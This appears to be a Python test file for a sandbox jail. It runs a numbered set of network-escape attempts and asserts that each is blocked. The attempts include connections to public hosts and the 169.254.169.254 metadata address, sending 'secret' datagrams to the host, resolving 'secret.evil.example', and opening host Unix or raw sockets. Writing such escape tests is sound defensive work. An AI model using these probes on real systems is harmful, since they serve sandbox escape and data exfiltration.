"""Attacks that leave the box over a network or over sockets on which the host listens."""

import socket
import tempfile
from pathlib import Path

import anyio.to_thread

from nekro_core.sandbox.jail.defences import JailDefences
from tests.sandbox.attacks.attack import (
    HOST_FOLDER,
    PRELUDE,
    Attack,
    GotThrough,
    Ground,
    Without,
    guest,
    judge,
)

NO_NETWORK = Without(defences=JailDefences(network=False))
NO_FILTER = Without(defences=JailDefences(calls_filtered=False))


def seen_by(server: socket.socket) -> bool:
    """Return True if anything reached a server of the host."""
    server.settimeout(0.2)
    try:
        server.recv(100) if server.type == socket.SOCK_DGRAM else server.accept()[0].close()
    except TimeoutError:
        return False
    return True


async def ask(ground: Ground, server: socket.socket, code: str) -> GotThrough:
    got = judge(await ground.play(f"{PRELUDE}\n{code}"), 1)
    if await anyio.to_thread.run_sync(seen_by, server):
        got.append("a server of the host saw it")
    return got


async def host_server(ground: Ground) -> GotThrough:
    with socket.create_server(("127.0.0.1", 0)) as server:
        address = ("127.0.0.1", server.getsockname()[1])
        return await ask(ground, server, f"fails(lambda: socket.create_connection({address}, 2))")


async def host_datagrams(ground: Ground) -> GotThrough:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        address = server.getsockname()
        # The box's own loopback interface accepts the datagram. The host's interface must not get
        # it.
        code = f"""
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.sendto(b"secret", {address})
print("held")
"""
        return await ask(ground, server, code)


async def abstract_socket(ground: Ground) -> GotThrough:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("")  # the kernel chooses an abstract name
        name = server.getsockname()
        server.listen()
        code = f"fails(lambda: socket.socket(socket.AF_UNIX).connect({name!r}))"
        return await ask(ground, server, code)


async def socket_file(ground: Ground) -> GotThrough:
    with tempfile.TemporaryDirectory(dir=HOST_FOLDER) as folder:
        Path(folder).chmod(0o755)
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(f"{folder}/s")
            Path(folder, "s").chmod(0o777)
            server.listen()
            code = f"fails(lambda: socket.socket(socket.AF_UNIX).connect('{folder}/s'))"
            return await ask(ground, server, code)


ATTACKS = [
    Attack(
        number=1,
        name="a TCP connection to the internet",
        act=guest(
            """
            began = time.monotonic()
            for host in ("1.1.1.1", "10.0.0.1", "169.254.169.254", "192.168.0.1"):
                fails(lambda: socket.create_connection((host, 80), 9))
            fails(lambda: socket.create_connection(("2606:4700:4700::1111", 80), 9))
            holds(time.monotonic() - began < 9, "slow")
            """,
            6,
        ),
        because="needs an internet; 2 and 3 try the same defence on the host's own servers",
    ),
    Attack(number=2, name="a server of the host", act=host_server, without=NO_NETWORK),
    Attack(number=3, name="datagrams to the host", act=host_datagrams, without=NO_NETWORK),
    Attack(
        number=3,
        name="names and datagrams to the internet",
        act=guest(
            """
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            fails(lambda: sock.sendto(b"x", ("8.8.8.8", 53)))
            fails(lambda: socket.getaddrinfo("secret.evil.example", 80))
            """,
            2,
        ),
        because="needs an internet; the attack before tries the same defence",
    ),
    Attack(number=4, name="an abstract socket", act=abstract_socket, without=NO_NETWORK),
    Attack(
        number=4,
        name="a socket file",
        act=socket_file,
        without=Without(defences=JailDefences(own_files=False)),
    ),
    Attack(
        number=4,
        name="other families of sockets",
        act=guest(
            """
            for family in (16, 17, 40, 38, 44):  # netlink, packet, vsock, alg, xdp
                fails(lambda: socket.socket(family, socket.SOCK_RAW))
            fails(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
            """,
            6,
        ),
        without=NO_FILTER,
    ),
]
